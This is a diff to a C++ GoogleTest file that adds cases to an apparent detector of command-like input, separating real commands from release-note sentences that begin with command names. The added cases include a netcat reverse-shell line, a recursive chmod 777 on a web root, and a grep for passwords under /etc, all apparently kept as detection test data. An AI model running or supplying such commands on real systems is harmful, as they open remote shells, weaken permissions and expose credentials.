@@ -127,7 +127,10 @@ INSTANTIATE_TEST_SUITE_P(
         // GNU long options after a separator; a backslash skipping aliases.
         ";perf --version", "\\ls", "\\whoami /all",
         // The batch-file FOR with the loop letter left out.
-        "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%"));
+        "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
+        // A command with a flag and arguments, not a sentence after the flag.
+        "ls -la", "chmod -R 777 /var/www", "grep -r password /etc/app",
+        "nc -e /bin/sh 10.0.0.1 4444"));
 
 class CommandLikeBenign : public ::testing::TestWithParam<const char*> {};
 TEST_P(CommandLikeBenign, IsAllowed) {
@@ -147,7 +150,11 @@ INSTANTIATE_TEST_SUITE_P(
         "\\nothing to see", "C:\\temp\\new folder", "python\n", "curl up with a book",
         "id card|passport",
         // A whole shell script posted to an automation form.
-        "#!/bin/sh\nset -x\nlscpu\ncat /proc/cpuinfo | head -n 5\nfdisk -l\n"));
+        "#!/bin/sh\nset -x\nlscpu\ncat /proc/cpuinfo | head -n 5\nfdisk -l\n",
+        // Release notes that open with a command and one of its flags.
+        "grep -P no longer attempts multiline matches.",
+        "ls -w0 is now interpreted as no limit on the length of the outputted line.",
+        "chmod -R no longer exits with error status when encountering symlinks."));
 
 // CI/ops forms: Dockerfiles and YAML pipelines carry commands by design, like a shebang script.
 class OpsDocumentBenign : public ::testing::TestWithParam<const char*> {};
